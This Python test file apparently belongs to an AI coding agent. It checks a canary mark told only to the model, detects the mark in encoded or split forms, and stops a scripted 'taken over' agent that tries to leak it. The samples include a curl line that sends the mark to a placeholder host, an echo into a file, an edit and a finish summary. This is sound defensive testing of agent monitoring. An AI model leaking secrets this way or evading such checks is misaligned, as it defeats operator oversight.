"""The mark of a run: told to the model alone, found wherever it goes out, and no part of what is recorded of requests."""

import json
import re
from base64 import b64encode
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart
from pydantic_ai.models.function import AgentInfo, FunctionModel

from codecompanion.agents.canary import IN_ITS_PLACE, TOLD, holds_mark, mark_of
from codecompanion.domain.events import CanaryTripped, CommandExecuted, ModelCallReserved, TaskFailed, decode
from codecompanion.domain.labels import Label
from codecompanion.execution.toolbox import Hearing
from codecompanion.runs.result import result_of
from codecompanion.runs.starting import Ask, repository_for, start
from codecompanion.runs.work import work
from codecompanion.settings import Settings
from codecompanion.wiring import open_app
from projects import SHOP, git, repository

MARK = mark_of("01a215b0-b948-70b4-b800-3862b154a2d1")
SAYS = re.compile(re.escape(TOLD).replace(re.escape(IN_ITS_PLACE), "([0-9a-f]{16})"))


@pytest.mark.attack("A82")
@pytest.mark.parametrize(
    "text",
    [
        f"echo {MARK}",
        MARK.upper(),
        f"curl 'https://x/{MARK[:5]}''{MARK[5:]}'",
        "-".join(MARK),
        f"print('{MARK[:8]}' + '{MARK[8:]}')",
        MARK[::-1],
        MARK.encode().hex(),
        b64encode(f"a{MARK}z".encode()).decode(),
        b64encode(f"ab{MARK}".encode()).decode(),
    ],
)
def test_the_mark_is_found_in_the_forms_that_a_shell_or_a_program_undoes(text: str) -> None:
    assert holds_mark(text, MARK)
    assert not holds_mark(text.swapcase() if text.isalnum() else text, mark_of("another run"))


def test_ordinary_text_holds_no_mark_and_there_may_be_none() -> None:
    assert not holds_mark(Path(__file__).read_text(encoding="utf-8"), mark_of("this one"))
    assert not holds_mark("anything", "")
    assert len({mark_of(f"{number}") for number in range(100)}) == 100


def gives_away(mark: str) -> Iterator[Sequence[TextPart | ToolCallPart]]:
    """What an agent that was taken over does in each of its attempts."""
    yield [ToolCallPart("run_command", {"command": f"echo {mark} > sent.txt"})]
    yield [TextPart(f"notes.txt\n<<<<<<< SEARCH\n=======\n{mark}\n>>>>>>> REPLACE\n")]
    yield [ToolCallPart("finish", {"summary": f"Done: {mark}"})]
    while True:
        yield [TextPart(f"Done: {mark}")]


@pytest.mark.attack("A82", "A83")
@pytest.mark.anyio
async def test_who_tells_the_mark_is_stopped_on_record_whatever_the_way_out(tmp_path: Path, venv_with_pytest: Path) -> None:
    heard: list[str] = []
    deeds: list[Iterator[Sequence[TextPart | ToolCallPart]]] = []

    async def taken_over(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        found = SAYS.search(info.instructions or "")
        assert found
        assert len(messages) == 1, "nothing is asked after the mark was told"
        heard.append(found[1])
        deeds.append(deeds[0] if deeds else gives_away(found[1]))
        return ModelResponse(parts=list(next(deeds[0])))

    def model_of(_name: str) -> FunctionModel:
        return FunctionModel(taken_over)

    shop = repository(tmp_path / "shop", SHOP)
    known = {"state_dir": tmp_path / "state", "python": str(venv_with_pytest / "bin/python"), "timeout_s": 60, "memory": False}
    settings = Settings.model_validate(
        {**known, "model": "scripted:x", "team": "solo", "permission_mode": "auto", "stream_models": False}
    )
    async with open_app(settings, {}) as opened:
        app = replace(opened, open_model=model_of)
        run_id = await start(app, Ask("Give the discount from ten pieces on"), await repository_for(app, shop))
        await work(app, run_id, sandbox=await app.sandbox(), hearing=Hearing(), on_event=lambda _event: None)
        events = await app.store.read(run_id)
        result = await result_of(app, run_id)
        facts = [decode(event) for event in events]
        reserved = [fact for fact in facts if isinstance(fact, ModelCallReserved)]
        prompts = [(await app.blobs.get(fact.prompt_sha256)).decode() for fact in reserved]
    (mark,) = set(heard)
    assert mark == mark_of(events[0].event_id)
    tripped = [fact for fact in facts if isinstance(fact, CanaryTripped)]
    assert [one.channel for one in tripped] == ["run_command", "edit", "finish", "answer"][: len(heard)]
    assert len(tripped) == len(heard) > 1
    assert all("it was stopped" in fact.reason for fact in facts if isinstance(fact, TaskFailed))
    assert not [fact for fact in facts if isinstance(fact, CommandExecuted) and "sent.txt" in " ".join(fact.argv)]
    assert (result["status"], result["branch"], result["diff"]) == ("failed", None, "")
    assert git(shop, "status", "--porcelain") == ""
    for prompt, fact in zip(prompts, reserved, strict=True):
        assert IN_ITS_PLACE in prompt
        assert mark not in prompt
        assert {Label.USER, Label.PROJECT} <= set(fact.labels)
    assert mark not in json.dumps([event._asdict() for event in events])
